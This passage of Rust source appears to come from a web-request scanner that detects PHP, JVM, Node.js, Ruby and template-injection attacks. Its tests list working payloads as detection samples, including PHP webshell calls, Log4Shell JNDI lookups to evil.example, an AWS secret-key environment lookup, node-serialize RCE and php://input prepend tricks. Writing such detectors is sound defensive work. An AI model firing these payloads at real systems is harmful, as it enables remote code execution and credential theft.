            if let Some(h) = php_include_at(v, c, at, level) {
                return Some(h);
            }
        }
    }
    None
}

fn php_include_at(v: &[u8], c: &Comments, at: usize, level: u8) -> Option<Hit> {
    {
        let word_len = v[at..].iter().take_while(|&&b| is_word(b)).count();
        let word = &v[at..at + word_len];
        let known = [&b"include"[..], b"require", b"include_once", b"require_once"]
            .iter()
            .any(|w| word.eq_ignore_ascii_case(w));
        if !known || (at > 0 && (is_word(v[at - 1]) || v[at - 1] == b'.')) {
            return None;
        }
        let rest = skip_blanks_and_comments(v, c, at + word_len);
        let operand_end = match v.get(rest) {
            Some(&q @ (b'\'' | b'"')) => v[rest + 1..].iter().take(256).position(|&b| b == q).map(|p| rest + 1 + p + 1),
            // `__DIR__ . '/x'`, `dirname(__FILE__) . ...`, `(...)`: an expression follows.
            Some(b) if is_word(*b) || *b == b'(' => {
                Some(rest + v[rest..].iter().take(64).take_while(|&&b| is_word(b)).count())
            }
            Some(b'$') => Some(
                rest + 1
                    + v[rest + 1..]
                        .iter()
                        .take(64)
                        .take_while(|&&b| is_word(b) || matches!(b, b'[' | b']' | b'\'' | b'"'))
                        .count(),
            ),
            _ => None,
        };
        let end = operand_end?;
        let after = skip_blanks_and_comments(v, c, end);
        // A bare word then `;` is prose (`please include urgent; thanks`).
        let word_operand = v.get(rest).is_some_and(|&b| is_word(b) || b == b'(');
        if !word_operand && (v.get(after) == Some(&b';') || (after >= v.len() && v.get(rest) == Some(&b'$'))) {
            return hit(1, at, end, level);
        }
        // An expression: `'a'.'b'`, `$d.'/x'`, `urldecode(...)`, up to the statement's `;` or
        // `?>` on the same line (tester t1).
        if matches!(v.get(after), Some(b'.' | b'(' | b'[')) {
            let line_end =
                v[after..].iter().take(256).position(|&b| b == b'\n').map_or(v.len().min(after + 256), |p| after + p);
            let tail = &v[after..line_end];
            if tail.contains(&b';') || tail.windows(2).any(|w| w == b"?>") {
                return hit(1, at, end, level);
            }
        }
    }
    None
}

/// A PHP function's name spelled by joining quoted pieces (`'sys' . 'tem'`), wherever it is
/// called from (`define('x', 'sys'.'tem'); (x)('id')`): no text joins quoted pieces with dots.
fn concatenated_function(v: &[u8], c: &Comments, level: u8) -> Option<Hit> {
    let mut i = 0;
    while let Some(dot) = find_either(v, i, b'.', b'.') {
        i = dot + 1;
        let before = skip_blanks_back(v, c, dot);
        if before == 0 || !matches!(v[before - 1], b'\'' | b'"') {
            continue;
        }
        // Forward to the end of the chain of `. 'piece'`.
        let mut end = before;
        let mut at = dot;
        for _ in 0..8 {
            if v.get(at) != Some(&b'.') {
                break;
            }
            let q = skip_blanks_and_comments(v, c, at + 1);
            let Some(&quote) = v.get(q).filter(|b| matches!(b, b'\'' | b'"')) else { break };
            let Some(close) = v[q + 1..].iter().take(32).position(|&b| b == quote) else { break };
            end = q + 1 + close + 1;
            at = skip_blanks_and_comments(v, c, end);
        }
        if end == before {
            continue;
        }
        if let Some((start, name)) = concatenated_name(v, c, end) {
            let name = name.trim_ascii();
            if php_function(name) || PHP_PLAIN_FUNCTIONS.contains(name) {
                return hit(1, start, end, level);
            }
        }
        i = i.max(end);
    }
    None
}

/// Whether a name, the `gap` after it and the `args` after the parenthesis read as a call in
/// code rather than a word and an aside in prose: nothing between (`system(`), a tab, a line
/// break, a comment or more than one blank (what an evasion puts there), or one blank before an
/// argument only code opens with: a quote, `$`, a backtick, `)`, or a number alone
/// (`system ('id')`, `$OOO0000O0 (16)`; not `Select 'File' (top left)`, `Dear $name
/// (customer 1234)`, `The (file) (PDF, max 5MB)`).
fn called_as_code(gap: &[u8], args: &[u8]) -> bool {
    if gap.len() != 1 || gap.iter().any(|&b| matches!(b, b'\t' | b'\n' | b'\r' | b'/' | b'#')) {
        return true;
    }
    let args = args.trim_ascii_start();
    // A call as the argument: `system (chr(105).chr(100))`, `system (hex2bin('6964'))`.
    let word = args.iter().take_while(|&&b| is_word(b)).count();
    if word > 0 && args.get(word) == Some(&b'(') {
        return true;
    }
    match args.first() {
        Some(b'\'' | b'"' | b'$' | b'`' | b')') => true,
        Some(b) if b.is_ascii_digit() => {
            let n = args.iter().take_while(|b| b.is_ascii_digit()).count();
            matches!(args[n..].trim_ascii_start().first(), Some(b')' | b','))
        }
        _ => false,
    }
}

/// Whether the name before the `.` at `dot` is a PHP variable (`$x.system(`).
fn receiver_is_variable(v: &[u8], dot: usize) -> bool {
    let name_at = v[..dot].iter().rposition(|&b| !is_word(b)).map_or(0, |p| p + 1);
    name_at > 0 && v[name_at - 1] == b'$'
}

/// `(3)`, `(1p)`, `(8)`: a manual page's section after a name.
fn man_section(args: &[u8]) -> bool {
    matches!(args, [b'1'..=b'9', b')', ..] | [b'1'..=b'9', b'a'..=b'z', b')', ..])
}

/// A Markdown link's target after its text (`[upload a file](https://...)`): no call.
fn link(args: &[u8]) -> bool {
    let args = args.trim_ascii_start();
    [&b"http://"[..], b"https://", b"mailto:", b"/", b"#", b"./", b"../"].iter().any(|p| starts_with_ci(args, p))
}

/// `system(s)`: a plural in prose.
fn plural(v: &[u8], open: usize) -> bool {
    matches!(v.get(open + 1..open + 3), Some(b"s)" | b"S)"))
}

/// Quoted strings joined by PHP's `.` ending just before `end`: where they start and the name
/// they spell (`"sys"."tem"` is `system`), at most 32 bytes.
fn concatenated_name(v: &[u8], c: &Comments, end: usize) -> Option<(usize, Vec<u8>)> {
    let mut parts: Vec<&[u8]> = Vec::new();
    let mut j = end;
    let mut start = end;
    loop {
        let q = *v.get(j.checked_sub(1)?)?;
        if !matches!(q, b'"' | b'\'') {
            break;
        }
        let open = v[..j - 1].iter().rposition(|&b| b == q)?;
        parts.push(&v[open + 1..j - 1]);
        start = open;
        let k = skip_blanks_back(v, c, open);
        if k > 0 && v[k - 1] == b'.' {
            j = skip_blanks_back(v, c, k - 1);
            if parts.len() >= 8 {
                break;
            }
            continue;
        }
        break;
    }
    let total: usize = parts.iter().map(|p| p.len()).sum();
    if parts.is_empty() || total > 32 {
        return None;
    }
    let mut name = Vec::with_capacity(total);
    for p in parts.iter().rev() {
        name.extend_from_slice(p);
    }
    Some((start, name))
}

/// A parenthesised or indexed expression just before a call, ending before `end`
/// (`(system)`, `($y)`, `(['system'])[0]`, `(/* c */ system)`): where it starts, when what it
/// names is a variable or a PHP function, bare or quoted.
fn called_group(v: &[u8], c: &Comments, end: usize) -> Option<(usize, usize)> {
    let mut j = end;
    let mut start = end;
    let mut groups = 0;
    for _ in 0..4 {
        let Some(close) = j.checked_sub(1) else { break };
        let o = match v[close] {
            b')' => b'(',
            b']' => b'[',
            b'}' => b'{',
            _ => break,
        };
        let shut = v[close];
        let mut depth = 0;
        let mut open = None;
        for k in (close.saturating_sub(128)..=close).rev() {
            if v[k] == shut {
                depth += 1;
            } else if v[k] == o {
                depth -= 1;
                if depth == 0 {
                    open = Some(k);
                    break;
                }
            }
        }
        start = open?;
        groups += 1;
        j = skip_blanks_back(v, c, start);
    }
    let group = &v[start..end];
    // Words one after another inside a bracket (`[upload a file]`, `(in the system)`) are prose.
    for piece in group.split(|b| b"()[]{}".contains(b)) {
        // 1: just after a word; 2: a word, then blanks.
        let mut state = 0;
        let mut i = 0;
        while i < piece.len() {
            let b = piece[i];
            if b.is_ascii_alphabetic() {
                if state == 2 {
                    return None;
                }
                i += piece[i..].iter().take_while(|&&x| is_word(x)).count();
                state = 1;
                continue;
            }
            state = if b.is_ascii_whitespace() && state != 0 { 2 } else { 0 };
            i += 1;
        }
    }
    // A variable: `($y)`.
    if group.windows(2).any(|w| w[0] == b'$' && (w[1] == b'_' || w[1].is_ascii_alphabetic())) {
        return Some((start, groups));
    }
    // Every word and quoted (joined) name in it.
    let mut k = 0;
    while k < group.len() {
        let b = group[k];
        if matches!(b, b'"' | b'\'') {
            let close = group[k + 1..].iter().position(|&x| x == b)? + k + 1;
            let name = group[k + 1..close].trim_ascii();
            if php_function(name) || PHP_PLAIN_FUNCTIONS.contains(name) {
                return Some((start, groups));
            }
            k = close + 1;
        } else if is_word(b) {
            let n = group[k..].iter().take_while(|&&x| is_word(x)).count();
            let w = &group[k..k + n];
            if php_function(w) || PHP_PLAIN_FUNCTIONS.contains(w) {
                return Some((start, groups));
            }
            k += n;
        } else {
            k += 1;
        }
    }
    None
}

/// Ruby's ways to run a command: `Process.spawn(`, `Kernel.exec(` / `system(` / `spawn(`,
/// `IO.popen(`, `Open3.popen3(` and kin; `(start, end)` of the call.
fn ruby_call(v: &[u8], method_start: usize, method_end: usize, open: usize) -> Option<(usize, usize)> {
    let method = &v[method_start..method_end];
    let recv_end = method_start - 1;
    let recv_start = v[..recv_end].iter().rposition(|&b| !is_word(b)).map_or(0, |p| p + 1);
    let receiver = &v[recv_start..recv_end];
    let runs = match receiver {
        b"Process" => matches!(method, b"spawn" | b"exec"),
        b"Kernel" => matches!(method, b"exec" | b"system" | b"spawn" | b"open"),
        b"IO" => matches!(method, b"popen"),
        b"Open3" => method.starts_with(b"popen") || method.starts_with(b"capture") || method.starts_with(b"pipeline"),
        _ => false,
    };
    runs.then_some((recv_start, open + 1))
}

/// `while(` at `open` holding a condition that is always true, with no variable in it
/// (`while(!0)`, `while(true)`, `while(!!{})`, `while(new Date)`): the end of the loop's head.
/// `while (it) lasts` and `while(!true)` are not.
fn endless_loop(v: &[u8], open: usize) -> Option<usize> {
    let close = closing(v, open)?;
    let mut cond = &v[open + 1..close];
    // `for(;;)`: no condition is always true.
    if cond.iter().all(|&b| b == b';' || b.is_ascii_whitespace()) && cond.iter().filter(|&&b| b == b';').count() == 2 {
        return Some(close + 1);
    }
    // Parentheses around it: `while((true))`.
    while let Some(inner) = cond.trim_ascii().strip_prefix(b"(").and_then(|c| c.strip_suffix(b")")) {
        cond = inner;
    }
    let cond = cond.trim_ascii();
    let bangs = cond.iter().take_while(|&&b| b == b'!').count();
    let base = cond[bangs..].trim_ascii();
    let base = base.strip_prefix(b"+").or_else(|| base.strip_prefix(b"-")).unwrap_or(base);
    let truthy = match base {
        b"true" | b"Infinity" | b"this" | b"String" | b"Object" | b"Array" | b"Date" | b"new Date" | b"{}" | b"[]" => {
            true
        }
        b"false" | b"null" | b"undefined" | b"NaN" | b"''" | b"\"\"" | b"``" => false,
        b if !b.is_empty() && b.iter().all(u8::is_ascii_digit) => b.iter().any(|&d| d != b'0'),
        _ => return None,
    };
    (truthy != (bangs % 2 == 1)).then_some(close + 1)
}

/// A serialized PHP object (`O:8:"stdClass":1:{...}`, `C:` for a custom one): `unserialize`
/// builds it and runs its magic methods.
fn php_object(v: &[u8]) -> Option<Hit> {
    let mut i = 0;
    while let Some(at) = find_either(v, i, b':', b':') {
        i = at + 1;
        if at == 0 || !matches!(v[at - 1], b'O' | b'o' | b'C' | b'c') || (at >= 2 && is_word(v[at - 2])) {
            continue;
        }
        let digits = v[at + 1..].iter().take(6).take_while(|b| b.is_ascii_digit()).count();
        let mut j = at + 1 + digits;
        if digits == 0 || v.get(j) != Some(&b':') || v.get(j + 1) != Some(&b'"') {
            continue;
        }
        j += 2;
        let name_len = v[j..].iter().take(128).take_while(|&&b| is_word(b) || b == b'\\').count();
        j += name_len;
        if name_len == 0 || v.get(j..j + 2) != Some(b"\":") {
            continue;
        }
        j += 2;
        let count = v[j..].iter().take(6).take_while(|b| b.is_ascii_digit()).count();
        if count > 0 && v.get(j + count..j + count + 2) == Some(b":{") {
            return Some(Hit::new(1, at - 1, j + count + 2));
        }
    }
    None
}

/// A `php.ini` directive set as a value opens (`allow_url_include=1`, `auto_prepend_file=...`,
/// `opcache.jit...=`), as `PHP_VALUE` through FastCGI or a `.user.ini` would read it.
fn php_directive(v: &[u8], shape: Shape, level: u8) -> Option<Hit> {
    static DIRECTIVES: WordTable<32> = WordTable::new(&[
        b"allow_url_fopen",
        b"allow_url_includ",
        b"auto_append_file",
        b"auto_prepend_fil",
        b"disable_classes",
        b"disable_function",
        b"display_errors",
        b"doc_root",
        b"enable_dl",
        b"error_log",
        b"error_reporting",
        b"expose_php",
        b"extension_dir",
        b"file_uploads",
        b"include_path",
        b"log_errors",
        b"max_execution_ti",
        b"memory_limit",
        b"open_basedir",
        b"output_handler",
        b"post_max_size",
        b"register_globals",
        b"safe_mode",
        b"sendmail_path",
        b"sendmail_from",
        b"short_open_tag",
        b"upload_max_files",
        b"upload_tmp_dir",
        b"user_dir",
        b"zend_extension",
        b"variables_order",
        b"html_errors",
    ]);
    /// Dotted sections of `php.ini`.
    const SECTIONS: &[&[u8]] = &[
        b"opcache.",
        b"mbstring.",
        b"pcre.",
        b"zend.",
        b"assert.",
        b"phar.",
        b"cgi.",
        b"xdebug.",
        b"apc.",
        b"user_ini.",
        b"highlight.",
        b"unserialize_",
        b"realpath_cache",
    ];
    /// `session.` and `mail.` directives PHP reads; JavaMail's `mail.smtp.host` and an app's
    /// `session.timeout` are not among them.
    const SESSION_OR_MAIL: &[&[u8]] = &[
        b"session.save_",
        b"session.upload_progress",
        b"session.serialize_handler",
        b"session.use_trans_sid",
        b"session.auto_start",
        b"mail.log",
        b"mail.add_x_header",
        b"mail.force_extra_parameters",
    ];
    let directive = |at: usize| -> Option<Hit> {
        let rest = &v[at..];
        let name_end = rest.iter().take(64).position(|&b| b == b'=' || b.is_ascii_whitespace())?;
        let name = &rest[..name_end];
        let after = rest[name_end..].trim_ascii_start();
        if name.is_empty() || after.first() != Some(&b'=') || !name.iter().all(|&b| is_word(b) || b == b'.') {
            return None;
        }
        if DIRECTIVES.contains(&name[..name.len().min(16)])
            || SECTIONS.iter().any(|s| starts_with_ci(name, s) && name.len() > s.len())
            || SESSION_OR_MAIL.iter().any(|s| starts_with_ci(name, s))
        {
            return hit(1, at, at + name_end + 1, level);
        }
        // Plain words among the directives: from 2.
        if name.eq_ignore_ascii_case(b"smtp") || name.eq_ignore_ascii_case(b"extension") {
            return hit(2, at, at + name_end + 1, level);
        }
        None
    };
    // Where a directive can start: the value's first line, each line after (a `PHP_VALUE` or a
    // `.user.ini` holds several), past blanks, and after PHP-CGI's `-d` (CVE-2012-1823 and, with
    // the soft hyphen Windows reads as `-`, CVE-2024-4577: `?%ADd+allow_url_include%3d1`).
    let mut line = 0;
    loop {
        let at = line + v[line..].iter().take_while(|b| b.is_ascii_whitespace()).count();
        if at < v.len() {
            if let Some(h) = directive(at) {
                return Some(h);
            }
        }
        match find_either(v, line, b'\n', b'\n') {
            Some(nl) => line = nl + 1,
            None => break,
        }
    }
    // PHP-CGI's option: a `-` (or the soft hyphen, a byte no ASCII text holds) before it.
    if !shape.has(const { Shape::mask(b"-") }) && !shape.non_ascii() {
        return None;
    }
    let mut i = 0;
    while let Some(d) = find_either(v, i, b'd', b'D') {
        i = d + 1;
        // The option, alone or in a cluster (`-nd`), or long (`--define`), after a blank.
        let letters = v[..d].iter().rev().take(8).take_while(|b| b.is_ascii_lowercase()).count();
        let Some(dash) = (d - letters).checked_sub(1) else { continue };
        let opens = matches!(v[dash], b'-' | 0xad)
            && (dash == 0 || v[dash - 1].is_ascii_whitespace() || matches!(v[dash - 1], b'-' | 0xc2));
        let long = starts_with_ci(&v[d..], b"define");
        if !opens || (letters > 0 && dash > 0 && v[dash - 1] == b'-' && !long) {
            continue;
        }
        let after = if long { d + 6 } else { d + 1 };
        let after = after + v.get(after).map_or(0, |&b| usize::from(b == b'='));
        let at = after + v[after..].iter().take(8).take_while(|b| b.is_ascii_whitespace()).count();
        if let Some(h) = directive(at).filter(|_| at < v.len()) {
            return Some(h);
        }
    }
    None
}

// ---------------------------------------------------------------------------------------------
// Node.js and templates

/// Node.js's markers that are neither dotted names, words with `_` nor after a `$` (those are
/// read by [`dotted_names`], [`underscore_words`] and [`dollar_signs`]): `node-serialize`'s
/// function marker in base64, a `require` or `process` reached by a computed name, and
/// prototype pollution through brackets (`constructor[prototype]`, `a[constructor][prototype]`).
fn javascript(v: &[u8], shape: Shape) -> Option<Hit> {
    if shape.has(const { Shape::mask(b"[") }) {
        // `process[...]`, `require[...]`, `constructor[prototype]`, `a[constructor][prototype]`,
        // `constructor['prototype']`.
        let mut i = 0;
        while let Some(open) = find_either(v, i, b'[', b'[') {
            i = open + 1;
            let before = &v[..open];
            let word_at = before.iter().rposition(|&b| !is_word(b)).map_or(0, |p| p + 1);
            let word = &before[word_at..];
            // Reached by a quoted or computed name, or `process[mainModule`: a Rails or PHP form's
            // `process[status]` is a field of a model called Process.
            let index = &v[open + 1..];
            let index_word = &index[..index.iter().take_while(|&&b| is_word(b)).count()];
            let computed = matches!(index.first(), Some(b'\'' | b'"' | b'`'))
                || index.get(index_word.len()) == Some(&b'.')
                || [&b"mainmodule"[..], b"binding", b"dlopen", b"_linkedbinding"]
                    .iter()
                    .any(|w| index_word.eq_ignore_ascii_case(w));
            if (word.eq_ignore_ascii_case(b"process") || word.eq_ignore_ascii_case(b"require")) && computed {
                return Some(Hit::new(1, word_at, open + 1));
            }
            let inner = v[open + 1..]
                .strip_prefix(b"'")
                .or_else(|| v[open + 1..].strip_prefix(b"\""))
                .unwrap_or(&v[open + 1..]);
            if !starts_with_ci(inner, b"prototype") {
                continue;
            }
            let before = before
                .strip_suffix(b"]")
                .map_or(before, |b| b.strip_suffix(b"'").or_else(|| b.strip_suffix(b"\"")).unwrap_or(b));
            if ends_with_ci(before, b"constructor") {
                return Some(Hit::new(1, before.len() - 11, open + 10));
            }
        }
    }
    // `_$$ND_FUNC$$_` in base64, at any of its three alignments: in a value that is base64 (no
    // blank, no punctuation but `+/=`), not in every identifier, URL or address.
    const NOT_BASE64: u64 = Shape::mask(b"!\"#$%&'()*,-.:;<>?@[\\]^_`{|}~");
    if v.len() >= 16 && !shape.whitespace() && !shape.has(NOT_BASE64) {
        for m in [&b"XyQkTkRfRlVOQyQk"[..], b"JCRORF9GVU5DJCRf", b"8kJE5EX0ZVTkMkJF"] {
            if let Some(at) = find_bytes(v, m, 0) {
                return Some(Hit::new(1, at, at + m.len()));
            }
        }
    }
    None
}

/// Server-side template expressions: arithmetic or Python's object internals inside `{{ }}`
/// (Jinja2, Twig: `{{7*7}}`, `{{''.__class__}}`), ERB and JSP scriptlets calling something
/// (`<%= system('id') %>`), `#{...}` expressions that call (Ruby, Java EL, Thymeleaf), and
/// from paranoia 2 Twig and Jinja2 statement tags (`{% ... %}`).
fn template(v: &[u8], level: u8) -> Option<Hit> {
    // Each closer is searched for once however many openers there are (`{{` repeated over
    // 64 KiB had read 512 bytes after each: 40 ms).
    let (mut erb_end, mut expr_end, mut tag_end) = (NextPair::new(b"%>"), NextPair::new(b"}}"), NextPair::new(b"%}"));
    let mut i = 0;
    while let Some(at) = find_either(v, i, b'{', b'%') {
        i = at + 1;
        if v[at] == b'%' {
            if at > 0 && v[at - 1] == b'<' {
                if let Some(end) = erb_end.at_or_after(v, at + 1).filter(|&e| e - at <= 512) {
                    let inner = &v[at + 1..end];
                    let inner = inner.strip_prefix(b"=").unwrap_or(inner);
                    if inner.contains(&b'(') || inner.contains(&b'`') || arithmetic(inner) || ruby_command(inner) {
                        return Some(Hit::new(1, at - 1, end + 2));
                    }
                }
            }
            continue;
        }
        let prev = at.checked_sub(1).map(|p| v[p]);
        if prev == Some(b'#') {
            if let Some(close) = closing(v, at) {
                let inner = &v[at + 1..close];
                if (inner.contains(&b'(') && inner.iter().any(u8::is_ascii_alphabetic))
                    || arithmetic(inner)
                    || ruby_command(inner)
                {
                    return Some(Hit::new(1, at - 1, close + 1));
                }
            }
            continue;
        }
        match v.get(at + 1) {
            Some(b'{') => {
                let Some(end) = expr_end.at_or_after(v, at + 2).filter(|&e| e - at <= 512) else { continue };
                let inner = v[at + 2..end].trim_ascii();
                let arithmetic = arithmetic(inner);
                let internals = find_either(inner, 0, b'_', b'_').is_some()
                    && [&b"__class__"[..], b"__globals__", b"__builtins__", b"__subclasses__", b"__mro__", b"__init__"]
                        .iter()
                        .any(|m| find_ci(inner, m, 0).is_some());
                if arithmetic || internals || starts_with_ci(inner, b"_self.env") || twig_callable(inner) {
                    return Some(Hit::new(1, at, end + 2));
                }
            }
            Some(b'%') if level >= 2 && tag_end.at_or_after(v, at + 2).is_some_and(|e| e - at <= 512) => {
                return Some(Hit::new(2, at, (at + 32).min(v.len())));
            }
            _ => {}
        }
    }
    None
}

/// The next place of a two-byte closer, for openers met in order: found once, and again only
/// when an opener lies past it.
struct NextPair {
    pair: [u8; 2],
    /// Searched from here, and what was found (`None`: nothing after it).
    from: usize,
    found: Option<Option<usize>>,
}

impl NextPair {
    fn new(pair: &[u8; 2]) -> NextPair {
        NextPair { pair: *pair, from: 0, found: None }
    }

    fn at_or_after(&mut self, v: &[u8], from: usize) -> Option<usize> {
        match self.found {
            Some(Some(p)) if p >= from => return Some(p),
            Some(None) if self.from <= from => return None,
            _ => {}
        }
        let mut i = from;
        let found = loop {
            match find_either(v, i, self.pair[0], self.pair[0]) {
                Some(p) if v.get(p + 1) == Some(&self.pair[1]) => break Some(p),
                Some(p) => i = p + 1,
                None => break None,
            }
        };
        self.from = from;
        self.found = Some(found);
        found
    }
}

/// Twig's filters that call what they are given: `{{['id']|filter('system')}}`,
/// `{{['id']|map('passthru')}}`, `{{[0]|reduce('system','id')}}`, `{{['id','']|sort('system')}}`.
fn twig_callable(inner: &[u8]) -> bool {
    let mut i = 0;
    while let Some(bar) = find_either(inner, i, b'|', b'|') {
        i = bar + 1;
        let rest = inner[bar + 1..].trim_ascii_start();
        const FILTERS: [&[u8]; 4] = [b"filter", b"map", b"reduce", b"sort"];
        let Some(filter) = FILTERS.iter().find(|f| starts_with_ci(rest, f)) else {
            continue;
        };
        let args = rest[filter.len()..].trim_ascii_start();
        let Some(args) = args.strip_prefix(b"(") else { continue };
        // Past parentheses around it; quoted pieces joined by Twig's `~` (`'sys'~'tem'`).
        let args = args.trim_ascii_start();
        let args = &args[args.iter().take_while(|&&b| b == b'(' || b.is_ascii_whitespace()).count()..];
        let mut name = Vec::new();
        let mut rest = args;
        while let Some(&q) = rest.first().filter(|b| matches!(b, b'\'' | b'"')) {
            let Some(close) = rest[1..].iter().take(32).position(|&b| b == q) else { break };
            name.extend_from_slice(&rest[1..1 + close]);
            rest = rest[close + 2..].trim_ascii_start();
            match rest.strip_prefix(b"~") {
                Some(more) => rest = more.trim_ascii_start(),
                None => break,
            }
        }
        if !name.is_empty() && (php_function(&name) || PHP_PLAIN_FUNCTIONS.contains(&name)) {
            return true;
        }
    }
    false
}

/// Ruby running a command without parentheses, as ERB and `#{}` read it: `system 'id'`,
/// `exec "id"`, `spawn 'id'`, `%x{id}`, `%x(id)`.
fn ruby_command(inner: &[u8]) -> bool {
    let inner = inner.trim_ascii();
    if starts_with_ci(inner, b"%x{") || starts_with_ci(inner, b"%x(") || find_ci(inner, b" %x{", 0).is_some() {
        return true;
    }
    let word = &inner[..inner.iter().take_while(|&&b| is_word(b)).count()];
    let rest = inner[word.len()..].trim_ascii_start();
    [&b"system"[..], b"exec", b"spawn", b"eval"].iter().any(|w| word.eq_ignore_ascii_case(w))
        && word.len() < inner.len()
        && matches!(rest.first(), Some(b'\'' | b'"' | b'`' | b'%'))
}

/// A template probe's arithmetic: numbers and operators only, multiplying (`7*7`, `'7'*7`).
fn arithmetic(inner: &[u8]) -> bool {
    let inner = inner.trim_ascii();
    // A probe multiplies (`{{7*7}}`); `{{ 10-20 }}% off` and `#{12-34}` are text.
    inner.iter().any(u8::is_ascii_digit)
        && inner.contains(&b'*')
        && inner.iter().all(|&b| b.is_ascii_digit() || b" *+-/%()'\".".contains(&b))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(v: &str, level: u8) -> bool {
        check(v.as_bytes(), Shape::of(v.as_bytes()), true, level).is_some()
    }

    #[test]
    fn each_runtime_s_payloads_are_found_at_paranoia_one() {
        for attack in [
            // PHP
            "<?php system($_GET['c']); ?>",
            "<?= `id` ?>",
            "<? echo 1;",
            "[php]echo 1;[/php]",
            "x=$_SERVER['HTTP_HOST']",
            "$GLOBALS['f'](1)",
            "$a(1)",
            "$OOO0000O0 (16)",
            "@$__[o](4)",
            "$_aB_4c[5]['d'] /*lol*/ (17)",
            "${'a'}()",
            "base64_decode('cGhwaW5mbygp')",
            "FOOcall_user_func()",
            "shell_exec /* x */ ('id')",
            "exec\t(blah)",
            "FILE\r\n()",
            "system('id')",
            "return\"system\"(xyz)",
            "('system')('whoami')",
            "(system)('uname');",
            "( string ) \"sys\".\"t\".\"em\" ('uname');",
            "$y = 'sys'.'tem';($y)('uname');",
            "(/* comment */system)(ls/* comment */);",
            "(['system'])[0]('uname');",
            "define('x', 'sys' . 'tem');(x)/* comment */('uname');",
            "(string) {[system][0]} ('uname');",
            "exec #comment\r\n (blah)",
            "(\"system  \")(\"whoami\")",
            "$_aB_4c[@5]/*wat*/[@d] ()",
            "$ {@_.__}(31);",
            "{php}echo 1;{/php}",
            "<%=7*7%>",
            "#{7*7}",
            "a[constructor][prototype][onerror]=a",
            // The review's.
            "call_user_func_array('system', array('id'));",
            "preg_replace_callback('/x/', 'system', 'id')",
            "system ('id');",
            "exec (\"id\", $o)",
            "include 'uploads/x.jpg';",
            "require_once $_GET['p'];",
            "{{['id']|filter('system')}}",
            "{{[\"id\",\"\"]|sort(\"passthru\")}}",
            "-d allow_url_include=1 -d auto_prepend_file=php://input",
            "\u{ad}d allow_url_include=1",
            "precision=14\nauto_prepend_file=php://input",
            " auto_prepend_file=x",
            "this.constructor.constructor('return process')()",
            "for(;;){}",
            "process['mainModule']",
            "process[req.query.a]",
            "process[mainModule",
            // Tester t1's.
            "x'.system('id').'",
            "$a='x'.system('id');",
            "$x.system('id');",
            "system( /*x*/ 'id');",
            "system (chr(105).chr(100));",
            "passthru (x)",
            "('system') (chr(105))",
            "-nd auto_prepend_file=php://input",
            "--define auto_prepend_file=php://input",
            "include 'a'.'b';",
            "include __DIR__.'/uploads/x.jpg';",
            "include urldecode('%2fetc%2fpasswd') ?>",
            "{{['id']|filter('sys'~'tem')}}",
            "{{['id']|filter((('system')))}}",
            // Tester s1's.
            "${j${foo:-n}di:ldap://evil.example/a}",
            "${jndi${nagli:-:}ldap://evil.example/a}",
            "${j${:-n}di:ldap://x}",
            "<%= system 'id' %>",
            "<%= %x{id} %>",
            "#{system 'id'}",
            "(\"freemarker.template.\"+\"utility.Execute\")?new()(\"id\")",
            "{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\"}",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:2;}",
            "allow_url_include=1",
            "auto_prepend_file = php://input",
            "opcache.jit_max_polymorphic_calls=50",
            // The JVM
            "java.lang.Runtime",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "java.io.FileOutputStream",
            "javax.script.ScriptEngineManager",
            "com.opensymphony.xwork2.ActionContext",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "java.Runtime",
            "ProcessBuilder.evil.clonetransformer",
            "${jndi:ldap://evil.example/a}",
            "${${::-j}ndi:ldap://evil.example/a}",
            "${ lower:j}${lower:n}di",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            "(#_memberAccess['allowStaticMethodAccess']=true)",
            // Node.js, Ruby, templates
            "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
            "XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK",
            "process.mainModule.require('fs')",
            "{\"__proto__\":{\"admin\":true}}",
            "constructor[prototype][admin]=1",
            // React Server Components references that walk to a prototype (React2Shell,
            // CVE-2025-55182; CRS 934100-33).
            "{\"then\":\"$1:__proto__:then\"}",
            "{\"reason\":{\"0\":\"$7:Module:prototype\",\"toString\":\"$b:pop\"}}",
            "\"$@0:constructor:constructor\"",
            "while(!0);",
            "while(true)",
            "while(!!{})",
            "while((true))",
            "Process.spawn(\"id\")",
            "IO.popen('id')",
            "{{7*7}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "<%= system('id') %>",
            "#{runtime.exec('id')}",
        ] {
            assert!(found(attack, 1), "{attack}");
        }
    }

    #[test]
    fn text_and_ordinary_values_pass_at_paranoia_one() {
        for text in [
            "<?xml version=\"1.0\"?>",
            "<?xml-stylesheet href=\"a.xsl\"?>",
            "it costs $5 (plus tax)",
            "$ (dollar) sign",
            "the system(s) we run",
            "copy the file (pdf) to the share",
            "while (supplies) last",
            "while(!true)",
            "java.io.IOException: broken pipe",
            "at java.lang.Thread.run(Thread.java:750)",
            "java.lang.NullPointerException",
            "I write java. Runtime is fine",
            "com.sun.proxy.$Proxy12",
            "org.apache.commons.lang3.StringUtils",
            "we ran the exec (CEO) meeting",
            "the evaluation (eval) results",
            "{{ user.name }}",
            "{{ 7 }} items",
            "Hello ${name}",
            "mail@example.com",
            "a.b.c",
            "php is a language",
            "O:8 is a seat",
            "process.env",
            "(a+b)(c+d)",
            "f(x)(y)",
            "smtp=mail.example.com",
            "the prototype of the constructor",
            "java.util.ArrayList",
            "JAVA_OPTS=-Djava.io.tmpdir=/tmp -Djava.net.preferIPv4Stack=true",
            "Exception in thread \"main\" java.lang.IllegalStateException: x\n\tat com.example.App.main(App.java:10)",
            "prices in $CAD (Canadian dollars)",
            // RSC references to data, and prices with times.
            "{\"user\":\"$1:user:name\",\"list\":\"$2:items:0\"}",
            "$5:30 per hour",
            "costs $12: prototype pricing is separate",
            "set $HOME (your home) first",
            "see org.apache.commons:commons-lang3:3.12.0",
            "{{price}} (50% off)",
            "the runtime of java.util.List is fine",
            "my_upload.json",
            "#{color}",
            "<% end %>",
            // The review's.
            "[upload a file](https://docs.example.com/upload)",
            "See [the system requirements](https://example.com/req) first",
            "Read [how to include images](https://x.example/help)",
            "Select 'File' (top left) and then 'Export'",
            "Click \"Include\" (bottom right)",
            "The (file) (PDF, max 5MB)",
